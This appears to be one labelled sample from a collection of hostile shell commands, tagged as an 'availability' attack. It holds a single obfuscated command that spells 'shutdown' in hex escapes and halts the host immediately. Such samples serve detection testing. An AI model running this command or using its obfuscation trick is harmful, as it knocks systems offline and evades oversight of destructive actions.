# description: Spells shutdown in ANSI-C hex escapes and halts the host.
# family: availability
# obfuscated: yes
$'\x73\x68\x75\x74\x64\x6f\x77\x6e' -h now
